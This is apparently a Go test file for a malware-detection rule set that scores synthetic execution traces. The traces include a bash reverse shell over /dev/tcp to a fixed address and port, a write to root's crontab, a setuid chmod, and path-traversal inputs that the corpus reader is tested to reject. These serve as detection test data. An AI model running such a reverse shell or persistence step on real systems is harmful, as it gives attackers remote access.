package signatures

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/scalemalnet/scalemalnet/guest/trace"
)

func writeTrace(t *testing.T, dir, name string, evs ...trace.Event) {
	t.Helper()
	for i := range evs {
		evs[i].T = int64(i + 1)
		if evs[i].PID == 0 {
			evs[i].PID = 9
		}
	}
	tr := trace.Trace{Windows: []trace.Window{{Index: 0, End: 1e9, Events: evs}}, Summary: trace.Summary{Outcome: trace.OutcomeExited}}
	b, err := json.Marshal(tr)
	if err != nil {
		t.Fatal(err)
	}
	os.MkdirAll(filepath.Join(dir, "traces"), 0o700)
	if err := os.WriteFile(filepath.Join(dir, name), b, 0o600); err != nil {
		t.Fatal(err)
	}
}

// A synthetic corpus in the lead's format: a reverse shell (T1059.004), a
// cron job (T1053.003) the rules see, a benign ls, and an item that did
// not run.
func TestEvaluateCorpus(t *testing.T) {
	dir := t.TempDir()
	writeTrace(t, dir, "traces/rs.json", ex("/bin/bash", "bash", "-c", "bash -i >& /dev/tcp/10.0.2.2/4444 0>&1"))
	writeTrace(t, dir, "traces/cron.json", ex("/bin/sh", "sh", "/tmp/s.sh"), wr("/var/spool/cron/crontabs/root"))
	writeTrace(t, dir, "traces/ls.json", ex("/bin/ls", "ls", "-l", "/etc"), rd("/etc/passwd"))
	lines := []string{
		`{"id":"art/T1059.004/1","label":"malware","group":"T1059.004","techniques":["T1059.004"],"source":"atomic-red-team","name":"rs","status":"done","trace":"traces/rs.json","extra":1}`,
		`{"id":"art/T1053.003/2","label":"malware","group":"T1053.003","techniques":["T1053.003"],"source":"atomic-red-team","name":"cron","status":"done","trace":"traces/cron.json"}`,
		``,
		`{"id":"debian/ls","label":"benign","group":"coreutils","source":"debian-userland","name":"ls","status":"done","trace":"traces/ls.json"}`,
		`{"id":"art/T1105/1","label":"malware","group":"T1105","techniques":["T1105"],"status":"skipped"}`,
	}
	os.WriteFile(filepath.Join(dir, CorpusFile), []byte(strings.Join(lines, "\n")), 0o600)
	set, _ := Default()
	ev, err := set.Evaluate(context.Background(), dir)
	if err != nil {
		t.Fatal(err)
	}
	if ev.Malware != 2 || ev.Benign != 1 || ev.Skipped != 1 || ev.TP != 2 || ev.FP != 0 || ev.TPR != 1 || ev.FPR != 0 || ev.Accuracy != 1 {
		t.Fatalf("totals %+v", ev)
	}
	if len(ev.Techniques) != 2 || ev.Techniques[0].Technique != "T1053.003" || ev.Techniques[0].SameTechnique != 1 || ev.Techniques[1].SameTechnique != 1 {
		t.Fatalf("techniques %+v", ev.Techniques)
	}
	var buf bytes.Buffer
	ev.WriteText(&buf)
	t.Log("\n" + buf.String())
	for _, want := range []string{"Detection (TPR) 1.000 (2/2)", "false positives (FPR) 0.000 (0/1)", "| T1059.004 | 1 | 1 (100%) | 1 | 1 |", "| dev-tcp-shell | 1 | 0 |"} {
		if !strings.Contains(buf.String(), want) {
			t.Errorf("report lacks %q", want)
		}
	}

	// A benign run the rules flag is a false positive; a missing trace is
	// counted, not fatal.
	writeTrace(t, dir, "traces/ls.json", ex("/bin/chmod", "chmod", "u+s", "/tmp/x"))
	os.Remove(filepath.Join(dir, "traces/cron.json"))
	ev, err = set.Evaluate(context.Background(), dir)
	if err != nil {
		t.Fatal(err)
	}
	if ev.FP != 1 || ev.FPR != 1 || ev.Errors != 1 || ev.Malware != 1 {
		t.Fatalf("second run %+v", ev)
	}
}

func TestReadCorpusErrors(t *testing.T) {
	cases := map[string]string{
		"garbage":   "{nope",
		"label":     `{"id":"a","label":"evil","status":"done","trace":"t.json"}`,
		"escape":    `{"id":"a","label":"benign","status":"done","trace":"../../etc/passwd"}`,
		"absolute":  `{"id":"a","label":"benign","status":"done","trace":"/etc/passwd"}`,
		"duplicate": `{"id":"a","label":"benign","status":"x"}` + "\n" + `{"id":"a","label":"benign","status":"x"}`,
		"empty":     "",
		"no id":     `{"label":"benign"}`,
	}
	for name, src := range cases {
		dir := t.TempDir()
		os.WriteFile(filepath.Join(dir, CorpusFile), []byte(src), 0o600)
		if _, err := ReadCorpus(dir); !errors.Is(err, ErrCorpus) {
			t.Errorf("%s: %v, want ErrCorpus", name, err)
		}
	}
	if _, err := ReadCorpus(t.TempDir()); !errors.Is(err, ErrCorpus) {
		t.Errorf("missing corpus.jsonl: %v", err)
	}
}
